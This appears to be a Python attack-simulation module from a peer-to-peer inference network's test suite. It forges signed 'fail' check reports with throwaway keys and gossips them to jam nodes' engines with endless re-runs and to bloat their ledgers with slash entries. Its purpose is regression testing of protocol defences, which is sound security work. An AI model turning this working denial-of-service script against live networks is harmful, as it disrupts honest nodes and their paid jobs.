"""Attack: jam every node's engine with made-up CheckReports (issue 14, item 3).

The attacker needs no stake, credit or history: it makes up a consumer key, a
"provider" key and a reporter key per report, signs a request for the network's
model with a huge `max_tokens` at temperature 10 (a re-run that never stops on its
own), "answers" it itself with 256 KiB of text (so the signed evidence opens), and
gossips the `fail` report on `p2pinfer/reports/1` from its own libp2p host. A
receiver that serves the model used to re-run every such report on its engine,
ahead of paid jobs, and slash the made-up provider with the whole report in its
ledger.

Besides the over-limits reports it sends as many within the receivers' limits
(max_tokens 2048, temperature 1, a 32 KiB answer): those may be re-run, but only
when no paid job wants the engine and within the re-run budget.

`run(net, ...)` is what tests/e2e/attacks and bench/attacks.py call.
"""

from __future__ import annotations

import hashlib
import os
import sqlite3
import time
from dataclasses import dataclass
from pathlib import Path

import trio

from p2pinfer.identity import NodeIdentity
from p2pinfer.market.ledger import ledger_path
from p2pinfer.net.config import NetConfig
from p2pinfer.net.host import run_host
from p2pinfer.protocol import REPORTS_TOPIC, CheckReport, JobParams, JobRequest, JobResult
from p2pinfer.protocol.codec import Signed, output_hash, sign
from tests.support.attack_net import MODEL, AttackNet

#: The largest provider output a report carries (the wire's LongText cap).
OUTPUT_CHARS = 262_144


@dataclass(frozen=True)
class ReportShape:
    """What a made-up report asks a receiver to re-run."""

    max_tokens: int
    temperature: float
    output_chars: int = OUTPUT_CHARS
    prompt: str = "Write a very long story about the sea."


JAM = ReportShape(max_tokens=1_000_000, temperature=10.0)
#: Within every limit of a default receiver, the output too (16 characters a token).
WITHIN_LIMITS = ReportShape(max_tokens=2_048, temperature=1.0, output_chars=32_768)


def made_up_report(shape: ReportShape, now_ms: int, model: str = MODEL,
                   provider: NodeIdentity | None = None,
                   reporter: NodeIdentity | None = None) -> Signed[CheckReport]:
    """A `fail` report whose evidence opens: every key in it is new and the attacker's
    (the provider's and the reporter's too, unless `provider` or `reporter` names it)."""
    consumer, reporter = NodeIdentity.generate(), reporter or NodeIdentity.generate()
    provider = provider or NodeIdentity.generate()
    request = sign(JobRequest(
        job_id=os.urandom(16), provider=provider.peer_id, model=model, kind="generate",
        max_price_per_1k=1_000, issued_at=now_ms, expires_at=now_ms + 60_000,
        prompt=shape.prompt,
        params=JobParams(max_tokens=shape.max_tokens, temperature=shape.temperature,
                         top_p=1.0, top_k=0, seed=int.from_bytes(os.urandom(4), "big"))),
        consumer)
    output = "x" * shape.output_chars
    result = sign(JobResult(
        job_id=request.msg.job_id, request_hash=request.hash, output_hash=output_hash(output),
        digest="", prompt_tokens=10, completion_tokens=shape.max_tokens, prompt_ms=1,
        generation_ms=1, total_ms=2, finish_reason="length", charged=0, finished_at=now_ms),
        provider)
    return sign(CheckReport(
        request=request.raw, result=result.raw, provider_output=output,
        reference_output_hash=hashlib.sha256(b"made up").digest(), reference_digest="",
        metrics=(), verdict="fail", issued_at=now_ms), reporter)


def slash_bytes(home: Path) -> int:
    """The bytes of the slash entries' bodies in a node's ledger (read-only, beside the
    running node; charges for the honest load grow the ledger too, and rightly)."""
    uri = f"file:{ledger_path(home)}?mode=ro"
    with sqlite3.connect(uri, uri=True, timeout=10) as conn:
        total: int = conn.execute("SELECT COALESCE(SUM(LENGTH(body)), 0) FROM entries"
                                  " WHERE kind = 'slash'").fetchone()[0]
    return total


async def run(net: AttackNet, *, reports: int = 6, shapes: tuple[ReportShape, ...] = (
        JAM, WITHIN_LIMITS), interval_s: float = 0.5) -> dict[str, int]:
    """Gossip `reports` made-up reports of each shape from one fresh host dialled into
    node 0; returns what was sent."""
    identity = NodeIdentity.generate()
    sent = 0
    size = 0
    async with run_host(NetConfig(identity, bootstrap=(net.bootstrap,))) as host:
        await host.subscribe(REPORTS_TOPIC)
        # Into node 0's mesh for the topic (it relays to the others).
        await host.wait_for_mesh(net.peer(0), REPORTS_TOPIC, timeout_s=30)
        for _ in range(reports):
            for shape in shapes:
                report = made_up_report(shape, int(time.time() * 1000))
                await host.publish(REPORTS_TOPIC, report.raw)
                sent += 1
                size = max(size, len(report.raw))
                await trio.sleep(interval_s)
        await trio.sleep(2)  # let gossip carry the last ones before the host leaves
    return {"reports_sent": sent, "report_bytes": size}


async def run_bounded(net: AttackNet, *, timeout_s: float, **kwargs: object
                      ) -> dict[str, int]:
    """`run`, failing after `timeout_s`."""
    with trio.fail_after(timeout_s):
        return await run(net, **kwargs)  # type: ignore[arg-type]


def run_sync(net: AttackNet, **kwargs: object) -> dict[str, int]:
    """`run` from synchronous code (bench/attacks.py)."""
    return trio.run(lambda: run(net, **kwargs))  # type: ignore[arg-type]
